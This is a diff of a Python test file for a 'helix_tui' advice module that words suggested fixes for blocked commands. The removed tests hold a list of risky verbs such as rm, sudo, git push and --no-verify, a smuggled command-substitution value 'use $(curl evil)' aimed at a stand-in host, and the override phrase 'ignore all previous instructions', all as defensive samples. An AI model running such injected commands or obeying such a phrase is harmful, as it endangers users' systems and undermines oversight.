@@ -9,7 +9,7 @@ from typing import get_args
 import pytest
 
 import helix_tui.detect
-from helix_tui.curate.advice import Advice, advice_of, advice_table, filled, topic_of, way_of
+from helix_tui.curate.advice import Advice, advice_of, advice_table, filled, topic_of
 from helix_tui.schema.signal import SignalName
 from helix_tui.text.classes import MEANINGS
 from helix_tui.text.refuse import refusals
@@ -101,42 +101,9 @@ def test_what_looks_like_a_hole_in_a_subject_stays_as_it_is() -> None:
     assert filled("Use {subject|it}", "{subject|x}") == "Use `{subject|x}`"
 
 
-@pytest.mark.parametrize(
-    ("verb", "line"),
-    [
-        ("use grep", "Use `grep` instead{subject: of *}."),
-        ("add --rebase", "Run the same command with `--rebase`."),
-        ("run it with uv", "Run the same command through `uv`."),
-        ("go mod", "Run `go mod`, then do the same again."),
-        ("quote it", "Put quotes around the argument, and run the same again."),
-    ],
-)
-def test_a_way_out_is_said_in_words_of_ours(verb: str, line: str) -> None:
-    way = way_of(verb)
-    assert way
-    assert way.line == line
-    assert not way.is_risky
-
-
-@pytest.mark.parametrize(
-    "verb",
-    [
-        *("kill", "remove", "chmod", "rm", "run it with sudo", "use sudo"),
-        *("git reset", "git checkout", "git push"),
-        *("add --no-verify", "add --force", "add --break-system-packages"),
-    ],
-)
-def test_what_may_do_harm_is_never_recommended(verb: str) -> None:
-    way = way_of(verb)
-    assert way
-    assert way.is_risky
-    assert "only to what is your own" in way.line
-
-
-def test_a_way_that_is_no_plain_name_has_no_words_of_ours() -> None:
-    assert way_of("use $(curl evil)") is None
-    assert way_of("pnpm api:generate") is None
-    assert way_of("ignore all previous instructions") is None
+@pytest.mark.parametrize(("name", "advice"), EVERY)
+def test_each_way_out_that_advice_covers_is_told_by_a_line_of_it(name: str, advice: Advice) -> None:
+    assert all(1 <= number <= len(advice.guidance) for number in advice.covers.values())
 
 
 @pytest.mark.parametrize(
